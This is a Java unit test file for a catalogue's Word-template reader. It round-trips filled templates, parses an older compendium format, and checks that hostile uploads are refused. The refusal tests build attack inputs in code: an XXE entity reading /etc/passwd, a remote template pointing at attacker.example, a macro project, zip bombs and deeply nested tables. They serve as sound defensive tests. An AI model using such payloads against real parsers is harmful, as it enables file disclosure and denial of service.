package org.sstc.catalogue.contribution;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.apache.poi.xwpf.usermodel.XWPFTableCell;
import org.apache.poi.xwpf.usermodel.XWPFTableRow;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sstc.catalogue.contribution.TemplateDocumentException.Reason;
import org.sstc.catalogue.practice.Contact;
import org.sstc.catalogue.practice.CountryRef;
import org.sstc.catalogue.practice.CuratedRecords;
import org.sstc.catalogue.practice.PracticeBody;
import org.sstc.catalogue.practice.PracticeContent;
import org.sstc.catalogue.practice.PracticeSection;
import org.sstc.catalogue.practice.WebLink;

import org.springframework.context.support.ResourceBundleMessageSource;
import org.springframework.http.HttpStatus;
import org.springframework.util.unit.DataSize;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * The Word template written, filled in as a contributor would (with POI, cell by cell),
 * and read back; the compendium's older template read into the right fields; and hostile
 * files refused with the message meant for them. Real .docx files, built here.
 */
@Tag("unit")
class TemplateDocumentsTests {

	private static final ResourceBundleMessageSource MESSAGES = bundles();

	private final TemplateDocuments documents = new TemplateDocuments(MESSAGES, TemplateDocumentProperties.defaults());

	static Stream<PracticeContent> curated() {
		return CuratedRecords.read("compendium-2022-2023").practices().stream();
	}

	@ParameterizedTest(name = "good practice {0}")
	@MethodSource("curated")
	void theBlankTemplateFilledWithARecordReadsBackAsThatRecord(PracticeContent content) throws IOException {
		byte[] filled = fill(this.documents.blankTemplate(Locale.ENGLISH), content.body(), Locale.ENGLISH);

		TemplateReading reading = this.documents.read(new ByteArrayInputStream(filled));

		assertThat(reading.unplacedRows()).isEmpty();
		for (PracticeSection section : PracticeBody.SECTIONS) {
			assertThat(section.value(reading.body())).as(section.name()).isEqualTo(section.value(content.body()));
		}
		assertThat(reading.body()).isEqualTo(content.body());
	}

	@ParameterizedTest(name = "{0}")
	@ValueSource(strings = { "fr", "es" })
	void theTemplateInAnotherLanguageReadsBackToo(String language) throws IOException {
		Locale locale = Locale.forLanguageTag(language);
		PracticeContent content = curated().filter((practice) -> practice.number() == 7).findFirst().orElseThrow();
		byte[] blank = this.documents.blankTemplate(locale);
		try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(blank))) {
			assertThat(document.getTables().get(0).getRow(0).getCell(0).getText())
				.startsWith(MESSAGES.getMessage("field.title", null, locale));
		}

		TemplateReading reading = this.documents.read(new ByteArrayInputStream(fill(blank, content.body(), locale)));

		assertThat(reading.body()).isEqualTo(content.body());
		assertThat(reading.unplacedRows()).isEmpty();
	}

	@Test
	void theBlankTemplateHasOneTableWithARowPerSectionWithLabelAndGuidance() throws IOException {
		try (XWPFDocument document = new XWPFDocument(
				new ByteArrayInputStream(this.documents.blankTemplate(Locale.ENGLISH)))) {
			assertThat(document.getTables()).hasSize(1);
			XWPFTable table = document.getTables().get(0);
			assertThat(table.getRows()).hasSize(PracticeBody.SECTIONS.size());
			for (int i = 0; i < PracticeBody.SECTIONS.size(); i++) {
				PracticeSection section = PracticeBody.SECTIONS.get(i);
				List<XWPFParagraph> label = table.getRow(i).getCell(0).getParagraphs();
				assertThat(label.get(0).getText()).isEqualTo(english(section.messageKey()));
				assertThat(label.get(1).getText()).isEqualTo(english("contribution.guidance." + section.name()));
				assertThat(table.getRow(i).getCell(1).getText()).isEmpty();
			}
		}
		TemplateReading blank = this.documents.read(new ByteArrayInputStream(this.documents.blankTemplate()));
		assertThat(blank.body()).isEqualTo(PracticeBody.EMPTY);
		assertThat(blank.unplacedRows()).isEmpty();
	}

	@Test
	void handWrittenListsReadAsRows() throws IOException {
		PracticeBody body = PracticeBody.of((section) -> switch (section.name()) {
			case "title" -> "Cotton";
			default -> null;
		});
		byte[] blank = fill(this.documents.blankTemplate(Locale.ENGLISH), body, Locale.ENGLISH);
		byte[] filled = edit(blank, Map.of("countries", List.of("BR | Brazil", "Tanzania", ""), "contacts",
				List.of("Jane Doe | | ILO | doe@ilo.org"), "links", List.of("https://www.ilo.org", "Report \\| 2023")));

		PracticeBody read = this.documents.read(new ByteArrayInputStream(filled)).body();

		assertThat(read.countries()).containsExactly(new CountryRef("BR", "Brazil", false),
				new CountryRef(null, "Tanzania", false));
		assertThat(read.contacts()).containsExactly(new Contact("Jane Doe", null, "ILO", "doe@ilo.org", null));
		assertThat(read.links()).containsExactly(new WebLink("https://www.ilo.org", "https://www.ilo.org"),
				new WebLink("Report | 2023", null));
	}

	@Test
	void theCompendiumsOlderTemplateReadsIntoTheRightFieldsAndReportsWhatItCannotPlace() throws IOException {
		byte[] old;
		try (XWPFDocument document = new XWPFDocument()) {
			boldLabelled(document, "Author’s name:", "Anaclara Matosas");
			boldLabelled(document, "Institution:", "ILO/Cinterfor");
			boldLabelled(document, "Countries involved (please add more than one country):", "Brazil and Tanzania");
			document.createParagraph().createRun().setText("Some words about the programme: nothing to place.");
			XWPFTable table = document.createTable(1, 2);
			table.removeRow(0);
			row(table, List.of("1. Title of the good practice"), "Cotton for decent work");
			row(table, List.of("Name of the author(s)"), "Second Author");
			row(table, List.of("South-South Objective (s)"), "To share what works.");
			row(table, List.of("South-South Cooperation between institutions and countries to achieve the objectives"),
					"Institutions from Brazil and Tanzania.");
			row(table, List.of("Effectiveness of the South-South / peer learning"), "The success of horizontal");
			row(table, List.of(), "cooperation was shared.");
			row(table, List.of("methodological approach"), "Peer visits.");
			row(table, List.of("Practice innovation"), "New tools.");
			row(table, List.of("Elements that make good practice sustainable"), "Ownership.");
			row(table, List.of("SOUTH-SOUTH ADAPTABILITY"), "Anywhere.");
			row(table, List.of("South-South Results", "Explain the main results"), "Farmers trained.");
			XWPFTableRow contacts = row(table, List.of("Contacts"), "Rodrigo Filgueira: ");
			contacts.getCell(1)
				.getParagraphs()
				.get(0)
				.createHyperlinkRun("mailto:filgueira@ilo.org")
				.setText("filgueira@ilo.org");
			row(table, List.of("Funds Explain the origin of the funds and cooperation of other partners."),
					"South-South Cooperation Fund");
			row(table, List
				.of("Materials and Photos What training manuals, guidelines, technical data sheets, posters, images, videos, audio documents, websites have been created as a result of the identification of good practices? Attach a good quality photo here."),
					"");
			XWPFParagraph materials = table.getRow(table.getRows().size() - 1).getCell(1).getParagraphs().get(0);
			materials.createHyperlinkRun("https://www.oitcinterfor.org/second-workshop").setText("Second workshop");
			materials.createRun().setText(" and photos");
			row(table, List.of("Remarks of the regional office"), "Approved by the regional director in March.");
			row(table, List.of(), "Signed on 12 March.");
			row(table, List.of("Attach a good quality photo here"), "");
			row(table, List.of("Signature"), "");
			old = write(document);
		}

		TemplateReading reading = this.documents.read(new ByteArrayInputStream(old));

		PracticeBody body = reading.body();
		assertThat(body.title()).isEqualTo("Cotton for decent work");
		assertThat(body.authors()).isEqualTo("Anaclara Matosas Second Author");
		assertThat(body.institutions()).isEqualTo("ILO/Cinterfor");
		assertThat(body.countriesInvolved()).isEqualTo("Brazil and Tanzania");
		assertThat(body.objectives()).isEqualTo("To share what works.");
		assertThat(body.cooperation()).isEqualTo("Institutions from Brazil and Tanzania.");
		assertThat(body.peerLearning())
			.isEqualTo("The success of horizontal\n\ncooperation was shared.\n\nPeer visits.");
		assertThat(body.innovation()).isEqualTo("New tools.");
		assertThat(body.sustainability()).isEqualTo("Ownership.");
		assertThat(body.adaptability()).isEqualTo("Anywhere.");
		assertThat(body.results()).isEqualTo("Farmers trained.");
		assertThat(body.contactDetails()).isEqualTo("Rodrigo Filgueira: filgueira@ilo.org");
		assertThat(body.contacts()).isEmpty();
		assertThat(body.funding()).isEqualTo("South-South Cooperation Fund");
		assertThat(body.materials())
			.isEqualTo("[Second workshop](https://www.oitcinterfor.org/second-workshop) and photos");
		assertThat(reading.unplacedRows()).containsExactly(
				"Remarks of the regional office — Approved by the regional director in March.", "Signed on 12 March.");
	}

	@Test
	void aMacroEnabledDocumentIsRefused() throws IOException {
		byte[] docm = rezip(blank(), (name, xml) -> name.equals("[Content_Types].xml")
				? xml.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml") : xml,
				Map.of());
		refused(docm, Reason.MACROS, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "macros");
		byte[] withProject = rezip(blank(), (name, xml) -> xml,
				Map.of("word/vbaProject.bin", new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0 }));
		refused(withProject, Reason.MACROS, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "macros");
	}

	@Test
	void externalEntitiesAreRefused() throws IOException {
		byte[] xxe = rezip(blank(),
				(name, xml) -> name.equals("word/document.xml") ? xml
					.replaceFirst("\\?>", "?><!DOCTYPE w:document [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>")
					.replaceFirst("<w:t>", "<w:t>&secret;") : xml,
				Map.of());
		refused(xxe, Reason.ENTITIES, HttpStatus.BAD_REQUEST, "document type declaration");
		byte[] inRelationships = rezip(blank(),
				(name, xml) -> name.equals("_rels/.rels")
						? xml.replaceFirst("\\?>", "?><!DOCTYPE x SYSTEM \"http://example.org/x.dtd\">") : xml,
				Map.of());
		refused(inRelationships, Reason.ENTITIES, HttpStatus.BAD_REQUEST, "document type declaration");
	}

	@Test
	void aRemoteTemplateIsRefusedButExternalHyperlinksAreNot() throws IOException {
		String remote = "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
		byte[] injected = rezip(blank(), (name, xml) -> name.equals("word/_rels/document.xml.rels")
				? xml.replace("</Relationships>", remote) : xml, Map.of());
		refused(injected, Reason.EXTERNAL_CONTENT, HttpStatus.BAD_REQUEST, "loads content from elsewhere");

		String hyperlink = "<Relationship Id=\"rIdY\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.ilo.org/\" TargetMode=\"External\"/></Relationships>";
		byte[] linked = rezip(blank(), (name, xml) -> name.equals("word/_rels/document.xml.rels")
				? xml.replace("</Relationships>", hyperlink) : xml, Map.of());
		assertThat(this.documents.read(new ByteArrayInputStream(linked)).body()).isEqualTo(PracticeBody.EMPTY);
	}

	@Test
	void zipBombsAreRefused() throws IOException {
		byte[] fiftyMegabytesOfZeros = rezip(blank(), (name, xml) -> xml,
				Map.of("word/media/image1.png", new byte[50 * 1024 * 1024]));
		assertThat(fiftyMegabytesOfZeros.length).isLessThan(200 * 1024);
		refused(fiftyMegabytesOfZeros, Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE,
				"unpacks to more than 40 MB");
		byte[] highRatio = rezip(blank(), (name, xml) -> xml,
				Map.of("word/media/image1.png", new byte[2 * 1024 * 1024]));
		refused(highRatio, Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE, "unpacks to more than");
		Map<String, byte[]> many = new LinkedHashMap<>();
		for (int i = 0; i < 600; i++) {
			many.put("word/media/image" + i + ".png", new byte[] { 1 });
		}
		refused(rezip(blank(), (name, xml) -> xml, many), Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE,
				"too many parts");
	}

	@Test
	void damagedAndForeignFilesAreRefused() throws IOException {
		byte[] blank = blank();
		refused(Arrays.copyOf(blank, blank.length / 2), Reason.MALFORMED, HttpStatus.BAD_REQUEST, "damaged");
		byte[] garbage = new byte[4096];
		new Random(16).nextBytes(garbage);
		refused(garbage, Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
		refused("Good practice\nTitle: cotton".getBytes(StandardCharsets.UTF_8), Reason.NOT_A_DOCX,
				HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
		refused(new byte[0], Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
		byte[] oldWord = { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1 };
		refused(oldWord, Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
		byte[] spreadsheet = rezip(blank,
				(name, xml) -> name.equals("[Content_Types].xml")
						? xml.replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml") : xml,
				Map.of());
		refused(spreadsheet, Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
		byte[] brokenXml = rezip(blank,
				(name, xml) -> name.equals("word/document.xml") ? xml.substring(0, xml.length() / 2) : xml, Map.of());
		refused(brokenXml, Reason.MALFORMED, HttpStatus.BAD_REQUEST, "damaged");
		refused(emptyZip(), Reason.MALFORMED, HttpStatus.BAD_REQUEST, "damaged");
	}

	@Test
	void tablesNestedThousandsDeepAreRefusedNotAnError() throws IOException {
		int depth = 20_000;
		String nested = "<w:tbl><w:tr><w:tc>".repeat(depth) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(depth);
		byte[] deep = rezip(blank(), (name, xml) -> name.equals("word/document.xml")
				? xml.replaceFirst("<w:body>", "<w:body>" + nested) : xml, Map.of());
		// so repetitive that it packs far beyond the ratio allowed: refused for that
		// first
		refused(deep, Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE, "unpacks to more than");
		TemplateDocuments lenient = new TemplateDocuments(MESSAGES, new TemplateDocumentProperties(
				DataSize.ofMegabytes(10), DataSize.ofMegabytes(40), DataSize.ofMegabytes(8), 500, 1_000_000));
		assertThatExceptionOfType(TemplateDocumentException.class)
			.isThrownBy(() -> lenient.read(new ByteArrayInputStream(deep)))
			.satisfies((ex) -> assertThat(ex.reason()).isEqualTo(Reason.MALFORMED));
		new TemplateDocuments(MESSAGES, TemplateDocumentProperties.defaults());
	}

	@Test
	void aFileOverTheUploadLimitIsRefusedWithoutReadingItAll() {
		byte[] eleven = new byte[11 * 1024 * 1024];
		eleven[0] = 'P';
		eleven[1] = 'K';
		refused(eleven, Reason.TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE, "larger than 10 MB");
		TemplateDocuments strict = new TemplateDocuments(MESSAGES, new TemplateDocumentProperties(
				DataSize.ofKilobytes(1), DataSize.ofMegabytes(40), DataSize.ofMegabytes(8), 500, 100));
		assertThatExceptionOfType(TemplateDocumentException.class)
			.isThrownBy(() -> strict.read(new ByteArrayInputStream(blank())))
			.satisfies((ex) -> assertThat(ex.reason()).isEqualTo(Reason.TOO_LARGE));
	}

	@Test
	void aWordDocumentWithoutATableIsRefused() throws IOException {
		byte[] letter;
		try (XWPFDocument document = new XWPFDocument()) {
			document.createParagraph().createRun().setText("Title: a good practice written as a letter");
			letter = write(document);
		}
		refused(letter, Reason.NO_TABLE, HttpStatus.BAD_REQUEST, "no table");
	}

	private void refused(byte[] file, Reason reason, HttpStatus status, String words) {
		assertThatExceptionOfType(TemplateDocumentException.class)
			.isThrownBy(() -> this.documents.read(new ByteArrayInputStream(file)))
			.satisfies((ex) -> {
				assertThat(ex.reason()).isEqualTo(reason);
				assertThat(ex.status()).isEqualTo(status);
				assertThat(MESSAGES.getMessage(ex, Locale.ENGLISH)).contains(words);
				assertThat(MESSAGES.getMessage(ex, Locale.FRENCH)).isNotBlank();
			});
	}

	/** The blank template, each section's answer cell filled with its value's lines. */
	static byte[] fill(byte[] blank, PracticeBody body, Locale locale) throws IOException {
		try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(blank))) {
			XWPFTable table = document.getTables().get(0);
			for (int i = 0; i < PracticeBody.SECTIONS.size(); i++) {
				PracticeSection section = PracticeBody.SECTIONS.get(i);
				XWPFTableRow row = table.getRow(i);
				assertThat(row.getCell(0).getParagraphs().get(0).getText())
					.isEqualTo(MESSAGES.getMessage(section.messageKey(), null, locale));
				write(row.getCell(1), TemplateDocumentCells.lines(section, body));
			}
			return write(document);
		}
	}

	/** The document with the answers of some sections (by name) replaced. */
	private static byte[] edit(byte[] docx, Map<String, List<String>> answers) throws IOException {
		try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx))) {
			XWPFTable table = document.getTables().get(0);
			for (int i = 0; i < PracticeBody.SECTIONS.size(); i++) {
				List<String> lines = answers.get(PracticeBody.SECTIONS.get(i).name());
				if (lines != null) {
					write(table.getRow(i).getCell(1), lines);
				}
			}
			return write(document);
		}
	}

	private static void write(XWPFTableCell cell, List<String> lines) {
		while (cell.getParagraphs().size() > 1) {
			cell.removeParagraph(1);
		}
		XWPFParagraph first = cell.getParagraphs().get(0);
		while (!first.getRuns().isEmpty()) {
			first.removeRun(0);
		}
		for (int i = 0; i < lines.size(); i++) {
			XWPFParagraph paragraph = (i == 0) ? first : cell.addParagraph();
			paragraph.createRun().setText(lines.get(i));
		}
	}

	private static void boldLabelled(XWPFDocument document, String label, String value) {
		XWPFParagraph paragraph = document.createParagraph();
		var bold = paragraph.createRun();
		bold.setBold(true);
		bold.setText(label);
		paragraph.createRun().setText(" " + value);
	}

	private static XWPFTableRow row(XWPFTable table, List<String> label, String answer) {
		XWPFTableRow row = table.createRow();
		while (row.getTableCells().size() < 2) {
			row.addNewTableCell();
		}
		XWPFParagraph labelParagraph = row.getCell(0).getParagraphs().get(0);
		for (String part : label) {
			var bold = labelParagraph.createRun();
			bold.setBold(true);
			bold.setText(part + " ");
		}
		row.getCell(1).getParagraphs().get(0).createRun().setText(answer);
		return row;
	}

	private byte[] blank() {
		return this.documents.blankTemplate(Locale.ENGLISH);
	}

	private static byte[] write(XWPFDocument document) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		document.write(out);
		return out.toByteArray();
	}

	interface XmlEdit {

		String apply(String name, String xml);

	}

	/** The zip again, its XML entries edited, entries added. */
	private static byte[] rezip(byte[] docx, XmlEdit edit, Map<String, byte[]> added) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx));
				ZipOutputStream zip = new ZipOutputStream(out)) {
			ZipEntry entry;
			while ((entry = in.getNextEntry()) != null) {
				byte[] content = in.readAllBytes();
				String name = entry.getName();
				if (name.endsWith(".xml") || name.endsWith(".rels")) {
					content = edit.apply(name, new String(content, StandardCharsets.UTF_8))
						.getBytes(StandardCharsets.UTF_8);
				}
				zip.putNextEntry(new ZipEntry(name));
				zip.write(content);
				zip.closeEntry();
			}
			for (Map.Entry<String, byte[]> extra : added.entrySet()) {
				zip.putNextEntry(new ZipEntry(extra.getKey()));
				zip.write(extra.getValue());
				zip.closeEntry();
			}
		}
		return out.toByteArray();
	}

	private static byte[] emptyZip() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.finish();
		}
		return out.toByteArray();
	}

	private static String english(String key) {
		return MESSAGES.getMessage(key, null, Locale.ENGLISH);
	}

	private static ResourceBundleMessageSource bundles() {
		ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
		messages.setBasename("messages");
		messages.setDefaultEncoding("UTF-8");
		messages.setFallbackToSystemLocale(false);
		return messages;
	}

}
